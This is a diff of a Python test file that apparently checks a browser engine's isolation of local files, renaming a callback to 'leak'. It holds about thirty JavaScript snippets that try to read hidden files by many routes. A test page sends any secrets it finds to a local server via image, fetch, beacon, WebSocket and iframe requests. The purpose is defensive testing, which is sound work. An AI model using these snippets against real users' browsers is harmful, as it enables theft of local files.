@@ -19,48 +19,48 @@ PNG = bytes.fromhex(
 ATTACKS = {
     "error": "put('script', {src: url})",
     "error-of-a-module": "put('script', {src: url, type: 'module'})",
-    "module": "import(url).catch(e => told(e))",
-    "json-module": "import(url, {with: {type: 'json'}}).then(m => told(JSON.stringify(m.default)), () => 0)",
-    "css-module": "import(url, {with: {type: 'css'}}).then(m => told(rules(m.default)), () => 0)",
-    "rules": "put('link', {rel: 'stylesheet', href: url}).onload = e => told(rules(e.target.sheet))",
+    "module": "import(url).catch(e => leak(e))",
+    "json-module": "import(url, {with: {type: 'json'}}).then(m => leak(JSON.stringify(m.default)), () => 0)",
+    "css-module": "import(url, {with: {type: 'css'}}).then(m => leak(rules(m.default)), () => 0)",
+    "rules": "put('link', {rel: 'stylesheet', href: url}).onload = e => leak(rules(e.target.sheet))",
     "imported-rules": "put('style', {textContent: `@import '${url}'`}).onload = e =>"
-    " told(rules(e.target.sheet.cssRules[0].styleSheet))",
-    "fetch": "fetch(url).then(r => r.text()).then(told, () => 0)",
-    "xhr": "const x = new XMLHttpRequest(); x.open('GET', url); x.onload = () => told(x.responseText); x.send()",
+    " leak(rules(e.target.sheet.cssRules[0].styleSheet))",
+    "fetch": "fetch(url).then(r => r.text()).then(leak, () => 0)",
+    "xhr": "const x = new XMLHttpRequest(); x.open('GET', url); x.onload = () => leak(x.responseText); x.send()",
     "xml": "const x = new XMLHttpRequest(); x.open('GET', url); x.overrideMimeType('text/xml'); x.onload = () =>"
-    " told(x.responseXML.documentElement.outerHTML); x.send()",
-    "iframe": "put('iframe', {src: url}).onload = e => told(e.target.contentDocument.documentElement.textContent)",
-    "object": "put('object', {data: url}).onload = e => told(e.target.contentDocument.documentElement.textContent)",
-    "embed": "put('embed', {src: url}).onload = e => told(e.target.getSVGDocument().documentElement.textContent)",
+    " leak(x.responseXML.documentElement.outerHTML); x.send()",
+    "iframe": "put('iframe', {src: url}).onload = e => leak(e.target.contentDocument.documentElement.textContent)",
+    "object": "put('object', {data: url}).onload = e => leak(e.target.contentDocument.documentElement.textContent)",
+    "embed": "put('embed', {src: url}).onload = e => leak(e.target.getSVGDocument().documentElement.textContent)",
     "prefetch": "put('link', {rel: 'prefetch', href: url}).onload = () =>"
-    " fetch(url, {cache: 'only-if-cached', mode: 'same-origin'}).then(r => r.text()).then(told, () => 0)",
+    " fetch(url, {cache: 'only-if-cached', mode: 'same-origin'}).then(r => r.text()).then(leak, () => 0)",
     "preload": "put('link', {rel: 'preload', as: 'fetch', href: url, crossOrigin: ''}).onload = () =>"
-    " fetch(url).then(r => r.text()).then(told, () => 0)",
-    "worker": "new Worker(url).onerror = e => told(e.message)",
+    " fetch(url).then(r => r.text()).then(leak, () => 0)",
+    "worker": "new Worker(url).onerror = e => leak(e.message)",
     "worker-import": "worker(`try { importScripts('${url}') } catch (e) { postMessage(String(e)) }`)",
     "worker-fetch": "worker(`fetch('${url}').then(r => r.text()).then(postMessage, () => 0)`)",
     "subtitles": "const t = document.createElement('track'); t.src = url; t.default = true; t.kind = 'subtitles';"
-    "put('video', {}).append(t); t.track.mode = 'showing'; t.onload = () => told([...t.track.cues].map(c => c.text))",
-    "events": "new EventSource(url).onmessage = e => told(e.data)",
+    "put('video', {}).append(t); t.track.mode = 'showing'; t.onload = () => leak([...t.track.cues].map(c => c.text))",
+    "events": "new EventSource(url).onmessage = e => leak(e.data)",
     "pixels": "const i = new Image(); i.onload = () => { const d = document.createElement('canvas').getContext('2d');"
-    "d.drawImage(i, 0, 0); told('SECRET' + d.getImageData(0, 0, 1, 1).data) }; i.src = url",
+    "d.drawImage(i, 0, 0); leak('SECRET' + d.getImageData(0, 0, 1, 1).data) }; i.src = url",
     # Slow to begin, or not read by any browser that is known; they must not begin to be.
-    "shared-worker": "new SharedWorker(url).onerror = e => told(e.message)",
+    "shared-worker": "new SharedWorker(url).onerror = e => leak(e.message)",
     "xslt": "const x = new XSLTProcessor(); x.importStylesheet(new DOMParser().parseFromString(`<xsl:stylesheet "
     "version='1.0' xmlns:xsl='http://www.w3.org/1999/XSL/Transform'><xsl:template match='/'><b><xsl:copy-of "
     "select=\"document('${url}')\"/></b></xsl:template></xsl:stylesheet>`, 'text/xml'));"
-    "told(x.transformToFragment(new DOMParser().parseFromString('<x/>', 'text/xml'), document).textContent)",
+    "leak(x.transformToFragment(new DOMParser().parseFromString('<x/>', 'text/xml'), document).textContent)",
     "source-map": "put('script', {textContent: `1 //# sourceMappingURL=${url}`})",
-    "entity": "told(new DOMParser().parseFromString(`<!DOCTYPE x [<!ENTITY e SYSTEM '${url}'>]><x>&e;</x>`, 'text/xml')"
+    "entity": "leak(new DOMParser().parseFromString(`<!DOCTYPE x [<!ENTITY e SYSTEM '${url}'>]><x>&e;</x>`, 'text/xml')"
     ".documentElement.textContent)",
     "svg-use": "document.body.insertAdjacentHTML('beforeend', `<svg><use href='${url}#x'/></svg>`)",
     "css-url": "put('p', {style: `background: url('${url}'); mask: url('${url}#x'); filter: url('${url}#x')`})",
-    "font": "new FontFace('x', `url('${url}')`).load().then(() => told('SECRET font'), () => 0)",
-    "worklet": "CSS.paintWorklet.addModule(url).catch(told)",
-    "popup": "const w = open(url); setTimeout(() => told(w.document.documentElement.textContent), 300)",
+    "font": "new FontFace('x', `url('${url}')`).load().then(() => leak('SECRET font'), () => 0)",
+    "worklet": "CSS.paintWorklet.addModule(url).catch(leak)",
+    "popup": "const w = open(url); setTimeout(() => leak(w.document.documentElement.textContent), 300)",
     "speculation": "put('script', {type: 'speculationrules', textContent: JSON.stringify({prefetch: [{source: 'list', "
     "urls: [url], eagerness: 'immediate'}]})}); setTimeout(() => fetch(url, {cache: 'force-cache'})"
-    ".then(r => r.text()).then(told, () => 0), 300)",
+    ".then(r => r.text()).then(leak, () => 0), 300)",
 }
 UNSURE = "shared-worker xslt source-map entity svg-use css-url font worklet popup".split()
 #: Files that a page may not read, whatever their kind: hidden ones, and some that are neither style nor script.
@@ -88,13 +88,13 @@ PAGE = """<!doctype html><title>t</title><link rel=stylesheet href=style.css><bo
 <img src=picture.png><script src=script.js></script><script>
 const send = text => { new Image().src = "HOME/image?" + encodeURIComponent(text) };
 const home = text => {
-  const told = text, f = document.createElement("iframe"), l = document.createElement("link");
+  const leak = text, f = document.createElement("iframe"), l = document.createElement("link");
   send(text);
-  fetch("HOME/fetch?" + told, {mode: "no-cors"}).catch(() => 0);
-  navigator.sendBeacon("HOME/beacon?" + told);
-  new WebSocket("HOME/socket?".replace("http", "ws") + told);
-  l.rel = "stylesheet"; l.href = "HOME/style?" + told; document.head.append(l);
-  f.src = "HOME/frame?" + told; document.body.append(f);
+  fetch("HOME/fetch?" + leak, {mode: "no-cors"}).catch(() => 0);
+  navigator.sendBeacon("HOME/beacon?" + leak);
+  new WebSocket("HOME/socket?".replace("http", "ws") + leak);
+  l.rel = "stylesheet"; l.href = "HOME/style?" + leak; document.head.append(l);
+  f.src = "HOME/frame?" + leak; document.body.append(f);
 };
 const rules = sheet => [...sheet.cssRules].map(rule => rule.cssText).join();
 const put = (name, given) => {
@@ -102,11 +102,11 @@ const put = (name, given) => {
   Object.assign(node, rest); node.style = style; document.body.append(node); return node };
 const say = text => { put("p", {textContent: text}); send(text) };
 const attack = (name, url, body) => {
-  const told = text => { if (String(text).includes("SECRET")) say(`${name} of ${url}: ${text}`) };
-  const worker = text => new Worker(URL.createObjectURL(new Blob([text]))).onmessage = e => told(e.data);
+  const leak = text => { if (String(text).includes("SECRET")) say(`${name} of ${url}: ${text}`) };
+  const worker = text => new Worker(URL.createObjectURL(new Blob([text]))).onmessage = e => leak(e.data);
   if (name.startsWith("error"))
-    addEventListener("error", e => { if (e.filename === url) told(e.message) });
-  try { body(url, told, worker) } catch (e) { told(e) }
+    addEventListener("error", e => { if (e.filename === url) leak(e.message) });
+  try { body(url, leak, worker) } catch (e) { leak(e) }
 };
 home("PING");
 const base = location.href.replace(/[^/]*$/, "");
@@ -118,7 +118,7 @@ class Home(QuietHandler):
     """Notes what is sent home."""
 
     def do_GET(self):
-        self.server.told.append(self.path)
+        self.server.requested.append(self.path)
         self.send_response(200)
         self.send_header("Content-Length", "0")
         self.end_headers()
@@ -129,7 +129,7 @@ class Home(QuietHandler):
 @contextmanager
 def home():
     server = ThreadingHTTPServer(("127.0.0.1", 0), Home)
-    server.daemon_threads, server.told, server.request_queue_size = True, [], 128
+    server.daemon_threads, server.requested, server.request_queue_size = True, [], 128
     threading.Thread(target=server.serve_forever, daemon=True).start()
     yield server
     server.shutdown()
@@ -170,7 +170,7 @@ def attacking(site, files, attacks=ATTACKS):
     """Write the page; yields its name, and the server that it tells."""
     with home() as server:
         calls = "".join(
-            f"attack('{name}', url, (url, told, worker) => {{ {body} }});" for name, body in attacks.items()
+            f"attack('{name}', url, (url, leak, worker) => {{ {body} }});" for name, body in attacks.items()
         )
         page = PAGE.replace("HOME", f"http://127.0.0.1:{server.server_port}")
         (site / "page.html").write_text(page.replace("FILES", str(list(files))).replace("RUN", "".join(calls)))
@@ -189,20 +189,20 @@ def over_http(site, browser):
     """What the attacks get where nothing holds them back: from a server that has these files."""
     with attacking(site, HIDDEN) as (name, server), serve(partial(Files, directory=str(site))) as address:
         page = browser.open(f"{address}/{name}", options=options())
-        return "\n".join(page.leaf_texts), "\n".join(server.told)
+        return "\n".join(page.leaf_texts), "\n".join(server.requested)
 
 
 @pytest.mark.parametrize("name", [name for name in ATTACKS if name not in UNSURE])
 def test_the_attacks_are_real(over_http, name):
-    text, told = over_http
+    text, requests = over_http
     assert f"{name} of " in text
-    assert f"{name}%20of%20" in told
+    assert f"{name}%20of%20" in requests
 
 
 @pytest.fixture(scope="module", params=[HIDDEN, OUT], ids=["hidden", "above"])
 def as_file(request, site, browser):
     with attacking(site, request.param) as (name, server):
-        return browser.open(site / name, options=options()), server.told
+        return browser.open(site / name, options=options()), server.requested
 
 
 def test_a_file_sends_nothing(as_file):
@@ -222,25 +222,25 @@ def test_a_file_has_what_it_needs(as_file):
 @pytest.fixture(scope="module", params=[HIDDEN, OUT], ids=["hidden", "above"])
 def as_trusted_file(request, site, browser):
     with attacking(site, request.param) as (name, server):
-        return browser.open(site / name, options=options(trust_file=True)), server.told
+        return browser.open(site / name, options=options(trust_file=True)), server.requested
 
 
 def test_a_trusted_file_has_the_network_as_well(as_trusted_file):
-    page, told = as_trusted_file
-    assert {way.split("?")[0] for way in told} >= {"/image", "/fetch", "/beacon", "/style", "/frame", "/socket"}
+    page, requests = as_trusted_file
+    assert {way.split("?")[0] for way in requests} >= {"/image", "/fetch", "/beacon", "/style", "/frame", "/socket"}
     assert page.leaf_texts[:2] == ("text", "scripted")
 
 
 def test_a_trusted_file_reads_nothing_hidden_and_nothing_above(as_trusted_file):
-    page, told = as_trusted_file
+    page, requests = as_trusted_file
     assert "SECRET" not in "".join(page.leaf_texts)
-    assert all(way.endswith("?PING") for way in told)
+    assert all(way.endswith("?PING") for way in requests)
 
 
 def test_a_trusted_file_offline_is_offline(site, browser):
     with attacking(site, HIDDEN) as (name, server):
         browser.open(site / name, options=options(trust_file=True, offline=True))
-        assert server.told == []
+        assert server.requested == []
 
 
 def test_a_file_with_an_address_has_the_network_and_no_files(site, browser):
@@ -249,8 +249,8 @@ def test_a_file_with_an_address_has_the_network_and_no_files(site, browser):
         assert page.leaf_texts[0] == "text"
         assert page.geometry.font_size[page.leaves[0]] == 16
         assert not any("scripted" in text or "SECRET" in text for text in page.leaf_texts)
-        assert server.told
-        assert all(way.endswith("?PING") for way in server.told)
+        assert server.requested
+        assert all(way.endswith("?PING") for way in server.requested)
 
 
 FRAME = """<!doctype html><p>frame</p><link rel=stylesheet href="LOCAL/style.css"><p id=text>framed</p>
